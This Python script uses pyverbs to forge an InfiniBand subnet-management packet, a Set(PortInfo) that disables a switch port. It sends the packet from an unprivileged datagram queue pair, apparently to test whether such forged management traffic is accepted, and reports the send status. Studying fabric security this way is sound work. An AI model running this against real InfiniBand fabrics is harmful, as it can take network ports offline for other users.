#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""forge.py HCA LID QPN CLASS PORT: sends a MAD from a datagram queue pair of a program, which may use neither QP0 nor
the Q_Key of QP1: a Set(PortInfo) that disables a port. CLASS 0x81 is by directed route, to the switch of the HCA.
Prints the status of the send."""
import struct
import sys
import time

from pyverbs.addr import AH, AHAttr
from pyverbs.cq import CQ
from pyverbs.device import Context
from pyverbs.enums import IBV_ACCESS_LOCAL_WRITE, IBV_QPT_UD, IBV_SEND_SIGNALED
from pyverbs.mr import MR
from pyverbs.pd import PD
from pyverbs.qp import QP, QPAttr, QPCap, QPInitAttr
from pyverbs.wr import SGE, SendWR

OWN_QKEY, GENERAL_QKEY = 0x11111111, 0x80010000
SET, PORT_INFO, DISABLED, PERMISSIVE_LID = 2, 0x15, 3, 0xffff


def main():
    hca = sys.argv[1]
    lid, qpn, management_class, port = (int(text, 0) for text in sys.argv[2:])
    mad = bytearray(256)
    struct.pack_into("!BBBBxxBBQHxxI", mad, 0, 1, management_class, 1, SET, 1, 1, 0x4711, PORT_INFO, port)
    struct.pack_into("!HH", mad, 32, PERMISSIVE_LID, PERMISSIVE_LID)
    mad[64 + 33] = DISABLED << 4
    mad[128 + 1] = 1
    context = Context(name=hca)
    domain, queue = PD(context), CQ(context, 4)
    memory = MR(domain, len(mad), IBV_ACCESS_LOCAL_WRITE)
    memory.write(bytes(mad), len(mad))
    init = QPInitAttr(qp_type=IBV_QPT_UD, scq=queue, rcq=queue, cap=QPCap(max_send_wr=1, max_recv_wr=1))
    attributes = QPAttr(port_num=1)
    attributes.qkey = OWN_QKEY
    pair = QP(domain, init, attributes)
    work = SendWR(num_sge=1, sg=[SGE(memory.buf, len(mad), memory.lkey)], send_flags=IBV_SEND_SIGNALED)
    work.set_wr_ud(AH(domain, attr=AHAttr(dlid=lid, port_num=1)), qpn, GENERAL_QKEY if qpn else 0)
    pair.post_send(work)
    deadline = time.monotonic() + 10
    count, done = queue.poll()
    while not count and time.monotonic() < deadline:
        count, done = queue.poll()
    print(done[0].status if count else "none")


main()
